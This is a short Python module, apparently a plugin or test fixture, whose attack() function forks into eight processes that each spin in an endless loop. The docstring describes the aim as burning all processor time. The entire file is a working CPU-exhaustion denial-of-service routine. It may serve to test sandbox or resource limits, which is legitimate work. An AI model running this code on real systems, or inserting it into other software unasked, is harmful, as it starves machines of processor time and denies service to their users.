"""Burns all processor time that there is, in many processes."""

import os

AT = "start"


def attack():
    for _ in range(3):
        os.fork()
    while True:
        pass
